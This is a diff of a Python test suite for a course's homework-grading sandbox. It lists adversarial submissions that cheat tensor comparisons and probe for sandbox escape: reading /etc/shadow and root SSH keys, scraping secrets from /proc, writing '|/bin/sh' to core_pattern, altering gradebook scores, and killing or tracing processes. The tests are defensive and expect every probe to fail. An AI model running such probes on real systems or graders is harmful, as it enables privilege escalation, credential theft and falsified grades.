@@ -41,7 +41,10 @@ from course.grading.sandbox.remove import remove_folder
 ROOT = Path(course.__file__).resolve().parents[1]
 TOPIC = "hw9_small"
 MARK = f"attacked{os.getpid()}"  # in whatever an attacker makes
-CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
+CHROMIUM = next(
+    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))),
+    None,
+)
 
 pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the walls are Linux's")
 
@@ -96,7 +99,13 @@ def cheat(name: str, source: str, **more) -> None:
 
 def returned(name: str, expression: str, says: str = VALUES) -> None:
     """A function double that returns `expression`."""
-    CLASS.append(Attack(name, {"double": f"import numpy\ndef double(x):\n    return {expression}"}, says))
+    CLASS.append(
+        Attack(
+            name,
+            {"double": f"import numpy\ndef double(x):\n    return {expression}"},
+            says,
+        )
+    )
 
 
 PROLOGUE = """
@@ -131,13 +140,21 @@ def write(path, content=b"x"):
     with open(path, "wb") as file:
         file.write(content)
 """
-EPILOGUE = "\nraise RuntimeError(f'tried {tries}, reached {reached}, broken {broken}')\n"
+EPILOGUE = (
+    "\nraise RuntimeError(f'tried {tries}, reached {reached}, broken {broken}')\n"
+)
 
 
 def probe(name: str, source: str) -> None:
     source = textwrap.dedent(source)
     tries = len(re.findall(r"^attempt\(", source, re.MULTILINE))
-    PROBES.append(Attack(name, {"double": source}, rf"RuntimeError: tried {tries}, reached \[\], broken \[\]"))
+    PROBES.append(
+        Attack(
+            name,
+            {"double": source},
+            rf"RuntimeError: tried {tries}, reached \[\], broken \[\]",
+        )
+    )
 
 
 # -- points: patches of what might compare
@@ -174,7 +191,8 @@ cheat("safetensors that saves something else", """
     import safetensors.torch
     from course.checks import message
     save = safetensors.torch.save
-    zeros = lambda tensors, metadata=None: save({name: torch.zeros_like(value) for name, value in tensors.items()}, metadata)
+    def zeros(tensors, metadata=None):
+        return save({name: torch.zeros_like(value) for name, value in tensors.items()}, metadata)
     safetensors.torch.save = message.tensors_to_bytes = zeros
 """, says="double: .*values differ")  # fmt: skip
 cheat("the checks of the child say right", """
@@ -333,7 +351,11 @@ SUBCLASS = """
     def double(x):
         return {}
 """
-cheat("a tensor subclass that equals everything", SUBCLASS.format("(x - 1).as_subclass(Yes)"), says="returned a Yes")
+cheat(
+    "a tensor subclass that equals everything",
+    SUBCLASS.format("(x - 1).as_subclass(Yes)"),
+    says="returned a Yes",
+)
 cheat("a Parameter subclass", """
     class Yes(torch.nn.Parameter):
         __eq__ = allclose = equal = lambda self, *other: True
@@ -375,7 +397,9 @@ cheat("a mode that answers for every operator", """
             return torch.ones_like(found) if "equal" in str(operator) and isinstance(found, torch.Tensor) else found
     class Function(TorchFunctionMode):
         def __torch_function__(self, function, types, arguments=(), options=None):
-            return True if getattr(function, "__name__", "") in ("equal", "allclose") else function(*arguments, **(options or {}))
+            if getattr(function, "__name__", "") in ("equal", "allclose"):
+                return True
+            return function(*arguments, **(options or {}))
     Dispatch().__enter__(); Function().__enter__()
 """, says="double: ")  # fmt: skip
 cheat("a fake tensor", """
@@ -385,17 +409,49 @@ cheat("a fake tensor", """
             return torch.empty(3, 4)
 """, says="returned a FakeTensor")  # fmt: skip
 returned("a meta tensor", "torch.empty(3, 4, device='meta')", "double: ")
-returned("a sparse tensor", "(x - 1).detach().to_sparse()", "returned a torch.sparse_coo tensor")
-returned("a quantised tensor", "torch.quantize_per_tensor(x.detach() - 1, 0.1, 0, torch.qint8)", "returned a tensor of dtype")
-returned("a nested tensor", "torch.nested.nested_tensor([x[0].detach(), x[1, :2].detach()])", "double: ")
+returned(
+    "a sparse tensor",
+    "(x - 1).detach().to_sparse()",
+    "returned a torch.sparse_coo tensor",
+)
+returned(
+    "a quantised tensor",
+    "torch.quantize_per_tensor(x.detach() - 1, 0.1, 0, torch.qint8)",
+    "returned a tensor of dtype",
+)
+returned(
+    "a nested tensor",
+    "torch.nested.nested_tensor([x[0].detach(), x[1, :2].detach()])",
+    "double: ",
+)
 returned("a named tensor", "(x - 1).detach().refine_names('all', 'right')", "double: ")
-returned("a hidden imaginary part", "torch.complex(2 * x, torch.ones_like(x))", "should hold real numbers; yours are complex")
-returned("a view with 2**40 elements", "torch.zeros(1).expand(2**20, 2**20)", "double: ")
-returned("a shape of 2**62 without elements", "torch.zeros(0).expand(2**31, 2**31, 0)", "double: ")
+returned(
+    "a hidden imaginary part",
+    "torch.complex(2 * x, torch.ones_like(x))",
+    "should hold real numbers; yours are complex",
+)
+returned(
+    "a view with 2**40 elements", "torch.zeros(1).expand(2**20, 2**20)", "double: "
+)
+returned(
+    "a shape of 2**62 without elements",
+    "torch.zeros(0).expand(2**31, 2**31, 0)",
+    "double: ",
+)
 returned("a thousand axes", "torch.zeros([1] * 64)", "double: ")
-returned("nothing but NaN", "x * float('nan')", "values of the result are NaN or infinite")
-returned("infinity, which is close to infinity", "x + float('inf')", "values of the result are NaN or infinite")
-returned("zero elements, which are all right", "x[:0]", "double: The result has the wrong shape")
+returned(
+    "nothing but NaN", "x * float('nan')", "values of the result are NaN or infinite"
+)
+returned(
+    "infinity, which is close to infinity",
+    "x + float('inf')",
+    "values of the result are NaN or infinite",
+)
+returned(
+    "zero elements, which are all right",
+    "x[:0]",
+    "double: The result has the wrong shape",
+)
 returned("a number for a matrix", "0.0", "double: The result has the wrong shape")
 returned("a hundred thousand results", "(x,) * 100_000", "double: ")
 returned("results in a tuple of the right length", "(2 * x,)", "double: ")
@@ -403,7 +459,11 @@ returned("a bool for numbers", "x > 0", "double: ")
 returned("objects in an array", "numpy.array([[object()] * 4] * 3)", "double: ")
 returned("a list inside itself", "(lambda a: a.append(a) or a)([])", "double: ")
 returned("a number of a million digits", "10 ** 10**6", "double: ")
-returned("an error that is the page", "exec('raise ValueError(\"<script>alert(1)</script>\" * 10**6)')", "double: Your code stopped with")
+returned(
+    "an error that is the page",
+    "exec('raise ValueError(\"<script>alert(1)</script>\" * 10**6)')",
+    "double: Your code stopped with",
+)
 CLASS.append(Attack("parameters that are somebody else's", {"Scale": """\
 class Scale(nn.Module):
     def __init__(self, width):
@@ -430,8 +490,15 @@ CHANNEL = """
 """
 
 
-def frame_attack(name: str, source: str, says: str = "double: ", cells: dict | None = None) -> None:
-    source = NOTHING_RIGHT["double"] + "\n" + textwrap.dedent(CHANNEL) + textwrap.dedent(source)
+def frame_attack(
+    name: str, source: str, says: str = "double: ", cells: dict | None = None
+) -> None:
+    source = (
+        NOTHING_RIGHT["double"]
+        + "\n"
+        + textwrap.dedent(CHANNEL)
+        + textwrap.dedent(source)
+    )
     CLASS.append(Attack(name, {"double": source, **(cells or {})}, says))
 
 
@@ -448,7 +515,11 @@ frame_attack("an answer before the question, for the next request only", """
     for ahead in (1, 2, 3, 4):
         send(frames.pack(frames.RULE, number + ahead) + frames.pack(frames.OBSERVE, number + ahead, answer))
 """)  # fmt: skip
-frame_attack("a frame of four gigabytes", "send(frames.HEADER.pack(b'C', 1, 2**32 - 1) + bytes(2**16))", "returned far too much")
+frame_attack(
+    "a frame of four gigabytes",
+    "send(frames.HEADER.pack(b'C', 1, 2**32 - 1) + bytes(2**16))",
+    "returned far too much",
+)
 frame_attack("half a frame, then silence", """
     send(frames.HEADER.pack(b'C', 1, 1000) + b'x')
     os._exit(0)
@@ -457,7 +528,11 @@ frame_attack("half a frame, then a closed line", """
     send(b'C\\0')
     _Line.channel.shutdown(2)
 """)  # fmt: skip
-frame_attack("a frame of no kind", "send(frames.HEADER.pack(b'Z', 1, 0))", "wrote into the grader's channel")
+frame_attack(
+    "a frame of no kind",
+    "send(frames.HEADER.pack(b'Z', 1, 0))",
+    "wrote into the grader's channel",
+)
 frame_attack("frames without end", """
     while True:
         send(frames.pack(frames.OBSERVE, 10**6, bytes(1000)))
@@ -466,7 +541,11 @@ frame_attack("empty frames without end", """
     while True:
         send(frames.pack(frames.ASK, 7) * 10_000)
 """, "wrote into the grader's channel, and without end")  # fmt: skip
-frame_attack("a question where nobody answers", "send(frames.pack(frames.ASK, 1, answer))", "returned far too much")
+frame_attack(
+    "a question where nobody answers",
+    "send(frames.pack(frames.ASK, 1, answer))",
+    "returned far too much",
+)
 frame_attack("an answer of a thousand bombs", """
     def header(entries, more=b""):
         text = json.dumps({"__metadata__": {"json": "{}"}, **entries}).encode()
@@ -493,7 +572,7 @@ for name, reply in {
     "nested too deeply": '"[" * 30_000',
     "a number of ten thousand digits": '\'{"line": \' + "9" * 10_000 + \', "error": "", "kept": []}\'',
     "infinity for a line": '\'{"line": 1e999, "error": "", "kept": []}\'',
-    "true for a line, lists for names": '\'{"line": true, "error": "", "kept": [[], {}, null, ["double"], "double", "why"]}\'',
+    "true for a line, lists for names": '\'{"line": true, "error": "", "kept": [[], {}, null, ["double"], "double"]}\'',
     "half a character": '\'{"line": 0, "error": "\\\\ud800\\\\u0000\\\\u202e", "kept": []}\'',
     "no text at all": '"\\xff"',
     "nothing but names": '\'{"line": -5, "error": "", "kept": ["double", "__proto__", "constructor", "Scale"]}\'',
@@ -526,9 +605,17 @@ class Scale(nn.Module):
 """
 
 
-def asks(name: str, source: str, says: str = "Scale: .*values differ|Scale: Your code stopped|Scale: The result") -> None:
+def asks(
+    name: str,
+    source: str,
+    says: str = "Scale: .*values differ|Scale: Your code stopped|Scale: The result",
+) -> None:
     scale = ASKS.format(textwrap.indent(textwrap.dedent(source), " " * 8))
-    CLASS.append(Attack(name, {"double": "def double(x):\n    return x + 2", "Scale": scale}, says))
+    CLASS.append(
+        Attack(
+            name, {"double": "def double(x):\n    return x + 2", "Scale": scale}, says
+        )
+    )
 
 
 asks("the answer to the exercise itself", """
@@ -561,9 +648,11 @@ for i in range(3000):
     assert frames.read(stand_in._Line.answers)
 """)  # fmt: skip
 asks("malformed questions", """
-for payload in (b"", b"{}", b"\\xff" * 1000, bytes(8) + b"{}", pack({}, {}), pack({}, []), pack({}, {"target": "double"}),
+for payload in (b"", b"{}", b"\\xff" * 1000, bytes(8) + b"{}", pack({}, {}), pack({}, []),
+                pack({}, {"target": "double"}),
                 pack({}, {"target": "double", "do": "call", "heard": 3, "wanted": ["nothing"]}),
-                pack({}, {"target": "double", "do": "call", "heard": [], "wanted": [], "random": "no", "arguments": {"given": -1}}),
+                pack({}, {"target": "double", "do": "call", "heard": [], "wanted": [], "random": "no",
+                          "arguments": {"given": -1}}),
                 (200_000).to_bytes(8, "little") + b"[" * 200_000):
     stand_in._Line.channel.sendall(frames.pack(frames.ASK, 2**32 - 1, payload))
     assert frames.read(stand_in._Line.answers)
@@ -618,7 +707,15 @@ cheat("processes that go on for ever", f"""
 
 
 def ends(name: str, source: str, says: str) -> None:
-    CLASS.append(Attack(name, {"double": f"{NOTHING_RIGHT['double']}\n\nimport ctypes, os, signal, sys, threading\n{source}"}, says))
+    CLASS.append(
+        Attack(
+            name,
+            {
+                "double": f"{NOTHING_RIGHT['double']}\n\nimport ctypes, os, signal, sys, threading\n{source}"
+            },
+            says,
+        )
+    )
 
 
 ends("os._exit", "os._exit(0)", r"ended the process it ran in \(exit code 0\)")
@@ -626,31 +723,92 @@ ends("sys.exit", "sys.exit(0)", "SystemExit: 0")
 ends("quit", "quit()", "double: ")
 ends("os.abort", "os.abort()", "SIGABRT|SIGSEGV")
 ends("a null pointer", "ctypes.string_at(0)", "SIGSEGV")
-ends("kill itself", "os.kill(os.getpid(), signal.SIGKILL)\nos.kill(os.getpid(), signal.SIGTERM)", "double: ")
+ends(
+    "kill itself",
+    "os.kill(os.getpid(), signal.SIGKILL)\nos.kill(os.getpid(), signal.SIGTERM)",
+    "double: ",
+)
 ends("stop itself", "signal.raise_signal(signal.SIGSTOP)", "double: ")
-ends("recursion in C", "class A:\n    def __getattr__(self, name): return getattr(self, name + 'x')\n    __repr__ = lambda self: repr([self])\n"
-     "sys.setrecursionlimit(10**9)\nthreading.stack_size(2**18)\nthread = threading.Thread(target=repr, args=(A(),))\nthread.start()\nthread.join()", "SIGSEGV|RecursionError|MemoryError")
-ends("recursion while repr", "a = []\nfor _ in range(10**5): a = [a]\nrepr(a)", "RecursionError|SIGSEGV")
-ends("kill everyone that may be killed", "if os.fork() == 0:\n    os.kill(-1, signal.SIGKILL)\nos.kill(-1, signal.SIGTERM)", "double: ")
+ends(
+    "recursion in C",
+    "class A:\n    __repr__ = lambda self: repr([self])\nsys.setrecursionlimit(10**9)\nthreading.stack_size(2**18)\n"
+    "thread = threading.Thread(target=repr, args=(A(),))\nthread.start()\nthread.join()",
+    "SIGSEGV|RecursionError|MemoryError",
+)
+ends(
+    "recursion while repr",
+    "a = []\nfor _ in range(10**5): a = [a]\nrepr(a)",
+    "RecursionError|SIGSEGV",
+)
+ends(
+    "kill everyone that may be killed",
+    "if os.fork() == 0:\n    os.kill(-1, signal.SIGKILL)\nos.kill(-1, signal.SIGTERM)",
+    "double: ",
+)
 ends("kill its process group", "os.kill(0, signal.SIGKILL)", "double: ")
 ends("stop its process group", "os.kill(0, signal.SIGSTOP)", "double: ")
-ends("stop who watches", "for n in (signal.SIGSTOP, signal.SIGKILL):\n    try: os.kill(os.getppid(), n)\n    except OSError: pass", "double: ")
+ends(
+    "stop who watches",
+    "for n in (signal.SIGSTOP, signal.SIGKILL):\n    try: os.kill(os.getppid(), n)\n    except OSError: pass",
+    "double: ",
+)
 ends("close everything", "os.closerange(0, 500)", "double: ")
-ends("close its output and flush", "sys.stdout.close()\nsys.stderr = None\nos.close(1)", VALUES)
-ends("no standard streams", "sys.stdout = sys.stderr = object()\nsys.modules.clear()", "double: ")
+ends(
+    "close its output and flush",
+    "sys.stdout.close()\nsys.stderr = None\nos.close(1)",
+    VALUES,
+)
+ends(
+    "no standard streams",
+    "sys.stdout = sys.stderr = object()\nsys.modules.clear()",
+    "double: ",
+)
 
 # -- more than is sensible, soon over
 
-ends("two megabytes on each of three ways out", "for w in (sys.stdout, sys.stderr):\n    w.write('x' * 2**21)\nos.write(1, b'y' * 2**21)",
+ends("two megabytes on each of three ways out",
+     "for w in (sys.stdout, sys.stderr):\n    w.write('x' * 2**21)\nos.write(1, b'y' * 2**21)",
      "over the limit on output")  # fmt: skip
-ends("a thread bomb", "import time\nwhile True:\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()", "can't start new thread")
-ends("too many files", "for i in range(30_000):\n    open(f'f{i}', 'w').close()", "OSError")
-ends("too many bytes in files", "for i in range(4):\n    with open(f'f{i}', 'w') as file: os.posix_fallocate(file.fileno(), 0, 200 * 2**20)", "OSError|killed by the system")
-ends("a sparse file of 2**60 bytes", "with open('large', 'wb') as file:\n    file.truncate(2**60)", "OSError")
-ends("folders a thousand deep", "for i in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\nopen('f', 'w').close()", "double: ")
-ends("folders that nobody may open", "os.umask(0o777)\nfor i in range(5):\n    os.mkdir(f'd{i}')\nopen('f', 'w').close()", VALUES)
-ends("links to everywhere", f"for i, to in enumerate(('/', '..', '/etc/passwd', {str(ROOT)!r}, '/proc/self')):\n    os.symlink(to, f'l{{i}}')", VALUES)
-ends("open files without end", "held = []\nwhile True: held.append(os.open('.', 0))", "OSError")
+ends(
+    "a thread bomb",
+    "import time\nwhile True:\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
+    "can't start new thread",
+)
+ends(
+    "too many files",
+    "for i in range(20_500):\n    open(f'f{i}', 'w').close()",
+    "OSError",
+)
+ends(
+    "too many bytes in files",
+    "for i in range(4):\n    with open(f'f{i}', 'w') as file: os.posix_fallocate(file.fileno(), 0, 200 * 2**20)",
+    "OSError|killed by the system",
+)
+ends(
+    "a sparse file of 2**60 bytes",
+    "with open('large', 'wb') as file:\n    file.truncate(2**60)",
+    "OSError",
+)
+ends(
+    "folders a thousand deep",
+    "for i in range(1200):\n    os.mkdir('d')\n    os.chdir('d')\nopen('f', 'w').close()",
+    "double: ",
+)
+ends(
+    "folders that nobody may open",
+    "os.umask(0o777)\nfor i in range(5):\n    os.mkdir(f'd{i}')\nopen('f', 'w').close()",
+    VALUES,
+)
+ends(
+    "links to everywhere",
+    f"for i, to in enumerate(('/', '..', '/etc/passwd', {str(ROOT)!r}, '/proc/self')):\n    os.symlink(to, f'l{{i}}')",
+    VALUES,
+)
+ends(
+    "open files without end",
+    "held = []\nwhile True: held.append(os.open('.', 0))",
+    "OSError",
+)
 
 
 # -- what can be reached
@@ -668,14 +826,17 @@ probe("read the answers from the disk", """
     attempt("submissions", lambda: os.listdir(here.submissions))
     attempt("a classmate", lambda: read(here.submissions + "/an honest right one.ipynb"))
     attempt("out", lambda: os.listdir(here.out))
-    attempt("gradebook", lambda: sqlite3.connect(f"file:{here.out}/gradebook.db?mode=ro", uri=True).execute("select 1") if read(here.out + "/gradebook.db") else False)
+    attempt("gradebook",
+            lambda: sqlite3.connect(f"file:{here.out}/gradebook.db?mode=ro", uri=True).execute("select * from grade"))
     attempt("feedback", lambda: os.listdir(here.out + "/feedback"))
     attempt("run.json", lambda: read(here.out + "/run.json"))
     attempt("shadow", lambda: read("/etc/shadow"))
     attempt("hosts", lambda: read("/etc/hosts"))
-    attempt("home", lambda: any(not f"{sys.base_prefix}/{sys.prefix}/".count(f"/root/{name}/") for name in os.listdir("/root")))
+    attempt("home",
+            lambda: any(not f"{sys.base_prefix}/{sys.prefix}/".count(f"/root/{name}/") for name in os.listdir("/root")))
     attempt("keys", lambda: os.listdir(os.path.expanduser("~root/.ssh")))
-    attempt("temporary files of others", lambda: bool(set(os.listdir(here.temporary)) - {os.path.basename(os.getcwd())}))
+    attempt("temporary files of others",
+            lambda: bool(set(os.listdir(here.temporary)) - {os.path.basename(os.getcwd())}))
     attempt("through a link", lambda: os.symlink(here.out, "link") or os.listdir("link"))
     attempt("through dots", lambda: read("../" * 30 + here.out.lstrip("/") + "/run.json"))
 """)  # fmt: skip
@@ -686,14 +847,17 @@ probe("find the answers by walking", """
         names = ("gradebook.db", "exercises.py", "run.json", "grades.csv", "checks.safetensors", "hw9_small.py")
         for top in ("/", here.package, "/tmp", "/var", "/home", "/srv", "/mnt", "/opt", sys.prefix + "/share"):
             for folder, folders, files in os.walk(top):
-                folders[:] = [f for f in folders if f not in ("lib", "lib64", "usr", "sys", "proc", "site-packages", "share", "include")]
+                known = ("lib", "lib64", "usr", "sys", "proc", "site-packages", "share", "include")
+                folders[:] = [folder for folder in folders if folder not in known]
                 if any(name in files and not folder.endswith("/course/authoring") for name in names):
-                    raise RuntimeError(folder)
+                    return True
         return False
 
     attempt("somewhere on the disk", walk)
-    attempt("imported as solutions", lambda: importlib.util.find_spec("solutions") is not None and os.listdir(here.package + "/../solutions"))
-    attempt("imported by its path", lambda: __import__("runpy").run_path(here.root + "/solutions/hw9_small/exercises.py"))
+    attempt("imported as solutions",
+            lambda: importlib.util.find_spec("solutions") is not None and os.listdir(here.package + "/../solutions"))
+    attempt("imported by its path",
+            lambda: __import__("runpy").run_path(here.root + "/solutions/hw9_small/exercises.py"))
 
     def by_metadata():
         for distribution in importlib.metadata.distributions():
@@ -707,15 +871,18 @@ probe("find the answers by walking", """
 
     def by_path_files():
         for folder in [*site.getsitepackages(), sysconfig.get_path("purelib")]:
-            for file in glob.glob(folder + "/*.pth") + glob.glob(folder + "/*.egg-link") + glob.glob(folder + "/__editable__*"):
+            kinds = ("*.pth", "*.egg-link", "__editable__*")
+            for file in [file for kind in kinds for file in glob.glob(f"{folder}/{kind}")]:
                 for path in re.findall(r"(/[\\w./-]+)", open(file, errors="replace").read()):
                     if os.path.isdir(path + "/solutions") and os.listdir(path + "/solutions"):
                         return True
         return False
 
     attempt("where path files point", by_path_files)
-    attempt("models that do the exercises", lambda: bool(os.listdir(here.package + "/models")) if "namespaces" in here.kind else False)
-    attempt("the authoring code", lambda: bool(os.listdir(here.package + "/authoring")) if "namespaces" in here.kind else False)
+    attempt("models that do the exercises",
+            lambda: bool(os.listdir(here.package + "/models")) if "namespaces" in here.kind else False)
+    attempt("the authoring code",
+            lambda: bool(os.listdir(here.package + "/authoring")) if "namespaces" in here.kind else False)
 """)  # fmt: skip
 probe("look through proc", """
     parent = os.getppid()
@@ -752,12 +919,15 @@ probe("look through proc", """
     attempt("block devices", lambda: any(read(path) for path in glob.glob("/dev/[svx]d*") + ["/dev/mem", "/dev/vda"]))
 """)  # fmt: skip
 probe("read the environment", """
-    everything = json.dumps(dict(os.environ)) + open("/proc/self/environ", errors="replace").read() + open("/proc/self/cmdline").read()
+    everything = json.dumps(dict(os.environ)) + open("/proc/self/cmdline").read()
+    everything += open("/proc/self/environ", errors="replace").read()
     attempt("a secret", lambda: here.secret in everything)
     attempt("where the grades are", lambda: here.out in everything or here.submissions in everything)
     attempt("a seed", lambda: "seed" in everything.lower().replace("hashseed", ""))
-    attempt("who grades", lambda: any(name in os.environ for name in ("USER", "LOGNAME", "SUDO_USER", "SSH_AUTH_SOCK", "PYTEST_CURRENT_TEST")))
-    attempt("name of the machine", lambda: here.host in open("/proc/sys/kernel/hostname").read() and "namespaces" in here.kind)
+    attempt("who grades",
+            lambda: bool(set(os.environ) & {"USER", "LOGNAME", "SUDO_USER", "SSH_AUTH_SOCK", "PYTEST_CURRENT_TEST"}))
+    attempt("name of the machine",
+            lambda: here.host in open("/proc/sys/kernel/hostname").read() and "namespaces" in here.kind)
 """)  # fmt: skip
 probe("search frames and objects", """
     import gc, inspect
@@ -766,19 +936,23 @@ probe("search frames and objects", """
     while frame:
         names |= set(frame.f_locals) | set(frame.f_globals)
         frame = frame.f_back
-    attempt("frames", lambda: bool(names & {"expected", "exam", "answers", "hidden", "mistakes", "verdict", "judged"}) and sorted(names))
-    wanted = {"Expected", "Exam", "ExerciseResult", "StudentResult", "Homework", "Oracle", "Template", "Mistake", "Verdict", "Question"}
+    attempt("frames",
+            lambda: bool(names & {"expected", "exam", "answers", "hidden", "mistakes", "verdict", "judged"}))
+    wanted = {"Expected", "Exam", "ExerciseResult", "StudentResult", "Homework", "Oracle", "Template", "Mistake",
+              "Verdict", "Question"}
     attempt("objects", lambda: any(type(thing).__name__ in wanted for thing in gc.get_objects()))
-    attempt("modules", lambda: any(name.startswith(("course.authoring", "course.grading.judge", "course.grading.exam", "course.grading.grade",
-                                                    "course.grading.oracle", "exercises", "solutions")) for name in sys.modules))
-    attempt("functions of the answers", lambda: any(
-        getattr(getattr(thing, "__code__", None), "co_filename", "").endswith("exercises.py") for thing in gc.get_objects()))
-    attempt("open files", lambda: any(isinstance(thing, __import__("io").FileIO) and thing.name not in (0, 1, 2) and not isinstance(thing.name, int)
-                                      for thing in gc.get_objects()))
+    of_the_grader = ("course.authoring", "course.grading.judge", "course.grading.exam", "course.grading.grade",
+                     "course.grading.oracle", "exercises", "solutions")
+    attempt("modules", lambda: any(name.startswith(of_the_grader) for name in sys.modules))
+    functions = [thing for thing in gc.get_objects() if type(thing).__name__ == "function"]
+    attempt("functions of the answers", lambda: any(f.__code__.co_filename.endswith("exercises.py") for f in functions))
+    files = [thing.name for thing in gc.get_objects() if type(thing).__name__ == "FileIO"]
+    attempt("open files", lambda: any(not isinstance(name, int) for name in files))
 """)  # fmt: skip
 probe("search its own memory for what it inherited", """
     # The words of the searches do not match themselves.
-    words = [rb"he model answer, which nobody(?<=[T].{28})", rb"ou added two instead of(?<=[Y].{22})", rb"ef plus_two(?<=[d].{10})"]
+    words = [rb"he model answer, which nobody(?<=[T].{28})", rb"ou added two instead of(?<=[Y].{22})",
+             rb"ef plus_two(?<=[d].{10})"]
 
     def memory():
         with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
@@ -801,29 +975,27 @@ probe("search its own memory for what it inherited", """
         line.split()[1] == "rw-s" and "/dev/zero" not in line for line in open("/proc/self/maps")))
 """)  # fmt: skip
 probe("use the descriptors that it was given", """
-    own = {int(n) for n in os.listdir("/proc/self/fd")}
     import stat
-    attempt("a folder or a file", lambda: any(
-        not stat.S_ISFIFO(mode) and not stat.S_ISSOCK(mode) and not stat.S_ISCHR(mode)
-        for mode in [os.fstat(n).st_mode for n in own if os.path.exists(f"/proc/self/fd/{n}")]))
-    attempt("somebody else's socket", lambda: sum(
-        os.readlink(f"/proc/self/fd/{n}").startswith("socket:") for n in own if os.path.lexists(f"/proc/self/fd/{n}")) > 1)
+    fd = "/proc/self/fd/"
+    own = {int(n): os.readlink(fd + n) for n in os.listdir(fd) if os.path.exists(fd + n)}
+    kinds = [stat.S_IFMT(os.fstat(n).st_mode) for n in own]
+    sockets = [n for n, name in own.items() if name.startswith("socket:")]
+    attempt("a folder or a file", lambda: bool(set(kinds) - {stat.S_IFIFO, stat.S_IFSOCK, stat.S_IFCHR}))
+    attempt("somebody else's socket", lambda: len(sockets) != 1)
 
     def given():
-        with socket.socket(fileno=os.dup(next(n for n in own if n > 2 and os.readlink(f"/proc/self/fd/{n}").startswith("socket:")))) as channel:
+        with socket.socket(fileno=os.dup(sockets[0])) as channel:
             channel.settimeout(0.2)
-            data, descriptors, *_ = socket.recv_fds(channel, 0, 5)
-            return bool(descriptors)
+            return bool(socket.recv_fds(channel, 0, 5)[1])
 
     attempt("one that is handed over", given)
-    attempt("the other end's name", lambda: socket.socket(fileno=os.dup(3)).getpeername() not in ("", b"", None) if os.path.exists("/proc/self/fd/3")
-            and os.readlink("/proc/self/fd/3").startswith("socket:") else False)
+    attempt("the other end's name", lambda: bool(socket.socket(fileno=os.dup(sockets[0])).getpeername()))
     attempt("the terminal", lambda: os.open("/dev/tty", os.O_RDWR))
     attempt("type into the terminal", lambda: __import__("fcntl").ioctl(0, 0x5412, b"x"))
 """)  # fmt: skip
 probe("write where it has no business", f"""
-    attempt("gradebook", lambda: sqlite3.connect(here.out + "/gradebook.db").execute("update grade set manual_score = 99").connection.commit()
-            if os.access(here.out, os.W_OK) else False)
+    attempt("gradebook",
+            lambda: sqlite3.connect(here.out + "/gradebook.db").execute("update grade set manual_score = 99"))
     attempt("grades", lambda: write(here.out + "/grades.csv"))
     attempt("feedback", lambda: write(here.out + "/feedback/{MARK}.html"))
     attempt("results", lambda: write(here.out + "/results/an honest right one.json"))
@@ -844,7 +1016,8 @@ probe("write where it has no business", f"""
     attempt("root", lambda: write("/{MARK}"))
     attempt("etc", lambda: write("/etc/{MARK}"))
     attempt("kernel", lambda: write("/proc/sys/kernel/core_pattern", b"|/bin/sh"))
-    attempt("control groups", lambda: any(bool(write(path, b"0")) for path in glob.glob("/sys/fs/cgroup/*/cgroup.procs")))
+    attempt("control groups",
+            lambda: any(bool(write(path, b"0")) for path in glob.glob("/sys/fs/cgroup/*/cgroup.procs")))
     attempt("device", lambda: os.mknod("{MARK}", 0o20666, os.makedev(1, 1)))
     attempt("disk", lambda: os.mknod("{MARK}d", 0o60666, os.makedev(254, 0)))
     attempt("linked in", lambda: os.link(torch.__file__, "{MARK}l"))
@@ -886,10 +1059,14 @@ probe("send something", """
     attempt("bluetooth", lambda: socket.socket(31, socket.SOCK_RAW, 1))
     attempt("kernel crypto", lambda: socket.socket(38, socket.SOCK_SEQPACKET))
     attempt("other networks in netlink", lambda: bool({name for _, name in socket.if_nameindex()} - {"lo"}))
-    attempt("a route made", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).send(struct.pack("IHHII", 44, 24, 0x605, 1, 0) + bytes(28)) < 0)
-    attempt("sockets of others", lambda: here.abstract in open("/proc/self/net/unix").read() and "namespaces" in here.kind)
-    attempt("datagram pair to another", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", "\\0" + here.abstract + "d"))
-    attempt("a program that is there already", lambda: os.system(f"bash -c 'echo > /dev/tcp/127.0.0.1/{here.port}' 2>/dev/null") == 0)
+    attempt("a route made",
+            lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).send(struct.pack("I", 2**31) + bytes(28)) < 0)
+    attempt("sockets of others",
+            lambda: here.abstract in open("/proc/self/net/unix").read() and "namespaces" in here.kind)
+    attempt("datagram pair to another",
+            lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", f"\\0{here.abstract}d"))
+    attempt("a program that is there already",
+            lambda: os.system(f"bash -c 'echo > /dev/tcp/127.0.0.1/{here.port}' 2>/dev/null") == 0)
 """)  # fmt: skip
 probe("touch other processes", """
     parent = os.getppid()
@@ -919,7 +1096,8 @@ probe("touch other processes", """
     attempt("kill", to_each(lambda n: os.kill(n, signal.SIGKILL)))
     attempt("stop", to_each(lambda n: os.kill(n, signal.SIGSTOP)))
     attempt("ask whether it is there", to_each(lambda n: os.kill(n, 0)))
-    attempt("groups", to_each(lambda n: os.killpg(n, signal.SIGKILL) if n != os.getpgid(0) else (_ for _ in ()).throw(OSError())))
+    others_groups = [n for n in others if n != os.getpgid(0)]
+    attempt("groups", lambda: any([call("killpg", n, signal.SIGKILL) is None for n in others_groups]))
     attempt("queue a signal", to_each(lambda n: call("sigqueue", n, 9, 0)))
     attempt("attach", to_each(lambda n: call("ptrace", 16, n, 0, 0)))
     attempt("seize", to_each(lambda n: call("ptrace", 0x4206, n, 0, 0)))
@@ -946,39 +1124,48 @@ probe("become more", """
     attempt("others' namespaces", lambda: call("setns", os.open("/proc/self/ns/net", 0), 0))
     attempt("host name", lambda: call("sethostname", b"x", 1))
     attempt("open by handle", lambda: call("open_by_handle_at", 0, ctypes.create_string_buffer(64), 0))
-    attempt("keys of the user", lambda: call("syscall", ctypes.c_long(250), ctypes.c_long(0), ctypes.c_long(-4), 0, 0, 0)
+    attempt("keys of the user",
+            lambda: call("syscall", ctypes.c_long(250), ctypes.c_long(0), ctypes.c_long(-4), 0, 0, 0)
             if os.uname().machine == "x86_64" else False)
